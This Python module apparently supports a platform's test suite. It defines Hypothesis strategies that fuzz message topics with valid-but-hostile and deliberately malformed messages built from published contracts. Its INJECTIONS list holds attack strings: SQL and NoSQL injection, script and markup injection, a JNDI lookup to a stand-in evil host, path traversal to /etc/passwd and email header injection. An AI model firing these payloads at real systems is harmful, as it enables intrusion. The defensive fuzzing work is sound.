"""Hypothesis strategies for hostile input on the platform's topics, built from the contracts.

Every strategy starts from the published example of a message class (``contracts.examples``)
and either keeps it valid while making its text as hostile as a person or an outside system
could (markup, injection attempts, odd Unicode, unknown fields) or breaks it in one known way
(truncated, undecodable, wrongly typed, wrongly keyed, oversized, nested too deep). So a test
always knows which is which: a ``Fuzzed`` with a ``flaw`` must be refused, one without must
be accepted.

Free text is found by asking the contract, not by a list kept here: a string field whose
example value can be replaced by markup and still validate is free text (names, titles,
comments, tags); every other string (ids, emails, time zones, enums) has a format.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from functools import cache
from typing import Any

import pydantic
from hypothesis import strategies as st

from contracts.catalogue import MESSAGE_TYPES, TOPICS, decode
from contracts.envelope import Envelope
from contracts.examples import example
from contracts.topics import TopicSpec

Path = tuple[str | int, ...]

INJECTIONS: tuple[str, ...] = (
    '{"$where": "sleep(5000)"}',
    '{"$gt": ""}',
    "$ne",
    "'; DROP TABLE people; --",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '<a href="https://evil.example">win</a>',
    "<https://evil.example|click here>",
    "<!channel> <!here>",
    "<@U024BE7LH>",
    "*bold* _italic_ ~strike~ `code`",
    "[click](http://evil.example)",
    "**now** # Heading",
    "{{ 7*7 }} {% raw %}",
    "${jndi:ldap://evil.example/a}",
    "../../etc/passwd",
    "\u202eevil\u202c",
    "A\u0000B",
    "zero\u200bwidth\u200d",
    "𝕳𝖔𝖘𝖙𝖎𝖑𝖊 🙂",
    "Ω≈ç√∫ عربى 中文",
    "line\r\nBcc: victim@example.com",
)
"""Text meant to break out of where it is put: queries, markup, templates, headers, layout."""

OPERATORS: tuple[Any, ...] = (
    {"$gt": ""},
    {"$ne": None},
    {"$where": "sleep(5000)"},
    {"$regex": ".*"},
    ["$in", "E1"],
    [{"$gt": ""}],
)
"""Query-operator objects and arrays where a scalar belongs."""

PROBE = "<b>probe</b> *x* [y](http://e)"
HOSTILE_TEXT_MAX = 32
"""Short enough for every free-text field of the catalogue (tags allow 64 characters)."""

ID_FIELDS = ("event_id", "subject", "correlation_id")


@dataclass(frozen=True)
class Fuzzed:
    """One record to send: the bytes, the key and headers, and what is wrong with it."""

    topic: str
    value: bytes | None
    flaw: str = ""
    """Empty for valid input that must be processed; otherwise why it must be refused."""
    key: bytes | None = None
    headers: tuple[tuple[str, bytes], ...] = ()
    hostile: dict[Path, str] = field(default_factory=dict)
    """Valid input only: the free-text fields set to hostile text, by path in the JSON."""

    @property
    def valid(self) -> bool:
        return not self.flaw


# ------------------------------------------------------------------ the contracts, asked


def inbound_topics() -> dict[str, tuple[TopicSpec, ...]]:
    """Every topic each service subscribes to, from the services' own definitions."""
    from services.matching.app import definition as matching
    from services.notification.app import definition as notification
    from services.profile.app import definition as profile
    from services.recognition.app import definition as recognition
    from services.scheduling.app import definition as scheduling

    return {d.name: d.consumes for d in (profile, matching, scheduling, notification, recognition)}


def consumed_topics() -> list[TopicSpec]:
    """Topics with at least one consumer, in registry order."""
    names = {spec.name for specs in inbound_topics().values() for spec in specs}
    return [spec for spec in TOPICS if spec.name in names]


def _leaves(value: Any, path: Path = ()) -> Iterator[tuple[Path, Any]]:
    if isinstance(value, dict):
        for name, item in value.items():
            yield from _leaves(item, (*path, name))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield from _leaves(item, (*path, index))
    else:
        yield path, value


def _get(document: Any, path: Path) -> Any:
    for part in path:
        document = document[part]
    return document


def _set(document: Any, path: Path, value: Any) -> None:
    _get(document, path[:-1])[path[-1]] = value


def _delete(document: Any, path: Path) -> None:
    del _get(document, path[:-1])[path[-1]]


def _accepts(topic: str, document: dict[str, Any]) -> bool:
    try:
        decode(topic, json.dumps(document))
    except pydantic.ValidationError:
        return False
    return True


@cache
def free_text_paths(message_cls: type[Envelope]) -> tuple[Path, ...]:
    """Paths of the example whose string accepts arbitrary text (markup included)."""
    topic = _topic_of(message_cls).name
    base = example(message_cls)
    found = []
    for path, value in _leaves(base):
        if not isinstance(value, str) or path[0] in ("type", "occurred_at", *ID_FIELDS):
            continue
        probed = copy.deepcopy(base)
        _set(probed, path, PROBE)
        if _accepts(topic, probed):
            found.append(path)
    return tuple(found)


@cache
def bounded_text_paths(message_cls: type[Envelope]) -> dict[Path, int]:
    """Free-text paths whose length the contract limits, each with a length it refuses.

    Most text allows at most 4,000 characters; a calendar invite allows 100,000, and a few
    strings (like ``local_start``) have no limit, so overlong text there is valid."""
    topic = _topic_of(message_cls).name
    bounded: dict[Path, int] = {}
    for path in free_text_paths(message_cls):
        for length in (4_001, 300_000):
            probed = example(message_cls)
            _set(probed, path, "x" * length)
            if not _accepts(topic, probed):
                bounded[path] = length
                break
    return bounded


@cache
def scalar_paths(message_cls: type[Envelope]) -> tuple[Path, ...]:
    """Paths of the example holding a string, number or boolean (None leaves are left out:
    an optional model field would accept an object of unknown keys)."""
    return tuple(p for p, v in _leaves(example(message_cls)) if v is not None)


@cache
def required_paths(message_cls: type[Envelope]) -> tuple[Path, ...]:
    """Top-level and payload fields a producer must send."""
    payload_cls = message_cls.model_fields["payload"].annotation
    assert isinstance(payload_cls, type)
    assert issubclass(payload_cls, pydantic.BaseModel)
    payload = [("payload", n) for n, f in payload_cls.model_fields.items() if f.is_required()]
    return (("event_id",), ("type",), ("source",), ("occurred_at",), ("payload",), *payload)


def _topic_of(message_cls: type[Envelope]) -> TopicSpec:
    return next(spec for spec in TOPICS if message_cls in spec.messages)


# ------------------------------------------------------------------ building blocks


def hostile_text() -> st.SearchStrategy[str]:
    """Text that is valid in any free-text field yet tries to break out of it."""
    anything = st.text(
        st.characters(codec="utf-8", exclude_categories=["Cs"]), min_size=0, max_size=HOSTILE_TEXT_MAX - 2
    )
    # Letters at both ends: stripping leaves the text as sent, so a test can compare it.
    wrapped = anything.map(lambda text: f"x{text}x")
    return st.one_of(st.sampled_from(INJECTIONS), wrapped, st.sampled_from(INJECTIONS).map(str.upper))


def junk_headers(reply_topic: str) -> st.SearchStrategy[tuple[tuple[str, bytes], ...]]:
    """Headers an outside producer might add: wrong ids, stray bytes, a reply address."""
    value = st.one_of(
        st.binary(max_size=64),
        st.sampled_from(INJECTIONS).map(str.encode),
        st.just(b"\xff\xfe\xed\xa0\x80"),
        st.just(reply_topic.encode()),
    )
    name = st.sampled_from(
        ("event_id", "correlation_id", "event_type", "content-type", "traceparent", "reply_to", "x-fuzz")
    )
    return st.lists(st.tuples(name, value), max_size=3).map(tuple)


def fresh(document: dict[str, Any], ids: st.DataObject) -> dict[str, Any]:
    """The example with its own event id (so no consumer takes it for a redelivery)."""
    renewed = copy.deepcopy(document)
    renewed["event_id"] = str(ids.draw(st.uuids(version=4)))
    renewed["correlation_id"] = renewed["event_id"]
    return renewed


def _encode(document: Any) -> bytes:
    return json.dumps(document, ensure_ascii=False).encode("utf-8", "surrogatepass")


def _long_text(shortest: int, usual: int, huge: int, letter: str = "z") -> st.SearchStrategy[str]:
    """Text of ``shortest`` to ``usual`` characters, now and then ``huge`` (slow to build and
    send, so rarer)."""
    lengths = st.one_of(st.integers(shortest, usual), st.integers(shortest, usual), st.just(huge))
    return lengths.map(lambda n: letter * n)


# ------------------------------------------------------------------ valid, but hostile


@st.composite
def valid_message(
    draw: st.DrawFn, spec: TopicSpec, messages: tuple[type[Envelope], ...] | None = None
) -> Fuzzed:
    """A valid message of the topic (of one of ``messages`` when given) with hostile text in
    its free-text fields, unknown fields (operator-like names, big values) and an id of its own."""
    message_cls = draw(st.sampled_from(messages or spec.messages))
    document = fresh(example(message_cls), draw(st.data()))
    paths = free_text_paths(message_cls)
    hostile: dict[Path, str] = {}
    if paths:
        for path in draw(st.lists(st.sampled_from(paths), max_size=3, unique=True)):
            hostile[path] = draw(hostile_text())
            _set(document, path, hostile[path])
    extras = draw(
        st.dictionaries(
            st.sampled_from(("$where", "$gt", "__proto__", "x-extra", "constructor")),
            st.one_of(st.sampled_from(OPERATORS), _long_text(1, 1_000, 200_000)),
            max_size=2,
        )
    )
    target = draw(st.sampled_from((document, document["payload"])))
    for name, value in extras.items():
        target.setdefault(name, value)
    return Fuzzed(spec.name, _encode(document), key=document["subject"].encode(), hostile=hostile)


# ------------------------------------------------------------------ broken in one known way


def _broken(spec: TopicSpec, flaw: str, value: bytes | None) -> Fuzzed:
    return Fuzzed(spec.name, value, flaw=flaw)


@st.composite
def _a_document(draw: st.DrawFn, spec: TopicSpec) -> tuple[type[Envelope], dict[str, Any]]:
    message_cls = draw(st.sampled_from(spec.messages))
    return message_cls, fresh(example(message_cls), draw(st.data()))


@st.composite
def not_json(draw: st.DrawFn, spec: TopicSpec) -> Fuzzed:
    raw = draw(st.one_of(st.binary(max_size=256), st.just(b""), st.just(None)))
    return _broken(spec, "not JSON", raw)


@st.composite
def truncated(draw: st.DrawFn, spec: TopicSpec) -> Fuzzed:
    _, document = draw(_a_document(spec))
    raw = _encode(document)
    cut = draw(st.integers(min_value=0, max_value=len(raw) - 1))
    return _broken(spec, "truncated JSON", raw[:cut])


@st.composite
def not_an_object(draw: st.DrawFn, spec: TopicSpec) -> Fuzzed:
    value = draw(
        st.one_of(
            st.none(),
            st.booleans(),
            st.integers(),
            st.floats(allow_nan=False),
            st.text(max_size=20),
            st.lists(st.integers(), max_size=3),
        )
    )
    return _broken(spec, "JSON that is not an object", json.dumps(value).encode())


@st.composite
def wrong_type_name(draw: st.DrawFn, spec: TopicSpec) -> Fuzzed:
    _, document = draw(_a_document(spec))
    others = [m.message_type() for m in MESSAGE_TYPES if m not in spec.messages]
    choice = draw(
        st.one_of(
            st.sampled_from(others),
            st.sampled_from(INJECTIONS),
            st.sampled_from(OPERATORS),
            st.just(None),
            st.just(document["type"].upper()),
        )
    )
    document["type"] = choice
    return _broken(spec, "a message type that does not belong on this topic", _encode(document))


@st.composite
def wrong_version(draw: st.DrawFn, spec: TopicSpec) -> Fuzzed:
    _, document = draw(_a_document(spec))
    document["version"] = draw(st.one_of(st.integers(max_value=0), st.integers(min_value=2), st.just("one")))
    return _broken(spec, "a version the contract does not have", _encode(document))


@st.composite
def missing_field(draw: st.DrawFn, spec: TopicSpec) -> Fuzzed:
    message_cls, document = draw(_a_document(spec))
    path = draw(st.sampled_from(required_paths(message_cls)))
    _delete(document, path)
    return _broken(spec, f"required field {'.'.join(map(str, path))} missing", _encode(document))


def _nested(depth: int) -> Any:
    value: Any = "deep"
    for level in range(depth):
        value = [value] if level % 2 else {"a": value}
    return value


@st.composite
def wrong_type(draw: st.DrawFn, spec: TopicSpec) -> Fuzzed:
    message_cls, document = draw(_a_document(spec))
    path = draw(st.sampled_from(scalar_paths(message_cls)))
    value = draw(st.one_of(st.sampled_from(OPERATORS), st.integers(2, 150).map(_nested)))
    _set(document, path, value)
    return _broken(spec, f"{'.'.join(map(str, path))} of the wrong type", _encode(document))


@st.composite
def hostile_id(draw: st.DrawFn, spec: TopicSpec) -> Fuzzed:
    message_cls, document = draw(_a_document(spec))
    path: Path = draw(
        st.sampled_from([(name,) for name in ID_FIELDS] + [("payload", message_cls.subject_field)])
    )
    value = draw(
        st.one_of(
            st.sampled_from(INJECTIONS),
            st.just(""),
            _long_text(129, 2_000, 300_000, letter="E"),
            st.text(min_size=1, max_size=20).map(lambda t: f"-{t}"),
        )
    )
    _set(document, path, value)
    return _broken(spec, f"{'.'.join(map(str, path))} is not an id", _encode(document))


@st.composite
def oversized_text(draw: st.DrawFn, spec: TopicSpec) -> Fuzzed:
    message_cls, document = draw(_a_document(spec))
    paths = bounded_text_paths(message_cls)
    if not paths:
        return draw(hostile_id(spec))
    path = draw(st.sampled_from(sorted(paths, key=str)))
    refused = paths[path]
    _set(document, path, draw(_long_text(refused, refused * 2, 300_000)))
    return _broken(spec, f"{'.'.join(map(str, path))} too long", _encode(document))


@st.composite
def nested_too_deep(draw: st.DrawFn, spec: TopicSpec) -> Fuzzed:
    _, document = draw(_a_document(spec))
    depth = draw(st.integers(min_value=300, max_value=20_000))
    text = _encode(document).decode()
    # Written as text: building the structure in Python would hit its own recursion limit.
    deep = "[" * depth + "]" * depth
    return _broken(
        spec,
        "nested deeper than the parser allows",
        text.replace('"payload": ', f'"payload": {deep}, "p": ', 1).encode(),
    )


@st.composite
def bad_timestamp(draw: st.DrawFn, spec: TopicSpec) -> Fuzzed:
    _, document = draw(_a_document(spec))
    document["occurred_at"] = draw(
        st.sampled_from(("2026-12-01T09:30:00", "yesterday", "2026-13-45T25:61:00Z", "", "1e400", "12:00"))
    )
    return _broken(spec, "occurred_at is no point in time with an offset", _encode(document))


@st.composite
def subject_mismatch(draw: st.DrawFn, spec: TopicSpec) -> Fuzzed:
    _, document = draw(_a_document(spec))
    document["subject"] = f"{document['subject']}-other"
    return _broken(spec, "subject differs from the payload's", _encode(document))


@st.composite
def broken_text_encoding(draw: st.DrawFn, spec: TopicSpec) -> Fuzzed:
    """A lone surrogate, escaped or as raw bytes, or stray bytes inside a string."""
    message_cls, document = draw(_a_document(spec))
    marker = "\u2603FUZZ\u2603"
    paths = free_text_paths(message_cls) or (("source",),)
    _set(document, draw(st.sampled_from(paths)), marker)
    raw = _encode(document)
    replacement = draw(st.sampled_from((rb"\ud800", rb"a\udfffb", b"\xed\xa0\x80", b"\xff\xfe", b"\xc3")))
    return _broken(spec, "text that is not valid Unicode", raw.replace(marker.encode(), replacement, 1))


FLAWS = (
    not_json,
    truncated,
    not_an_object,
    wrong_type_name,
    wrong_version,
    missing_field,
    wrong_type,
    hostile_id,
    oversized_text,
    nested_too_deep,
    bad_timestamp,
    subject_mismatch,
    broken_text_encoding,
)


@st.composite
def bad_message(draw: st.DrawFn, spec: TopicSpec, reply_topic: str = "fuzz.replies") -> Fuzzed:
    """A message of the topic broken in one of the known ways, with a hostile key and headers."""
    broken = draw(st.sampled_from(FLAWS).flatmap(lambda flaw: flaw(spec)))
    key = draw(st.one_of(st.none(), st.binary(max_size=40), st.sampled_from(INJECTIONS).map(str.encode)))
    headers = draw(junk_headers(reply_topic))
    if broken.value is None and key is None:
        key = b""  # Kafka takes no record without both; a tombstone has a key
    return Fuzzed(spec.name, broken.value, flaw=broken.flaw, key=key, headers=headers)


def any_message(spec: TopicSpec, reply_topic: str = "fuzz.replies") -> st.SearchStrategy[Fuzzed]:
    """Mostly broken messages, some valid ones, all hostile."""
    return st.one_of(bad_message(spec, reply_topic), bad_message(spec, reply_topic), valid_message(spec))
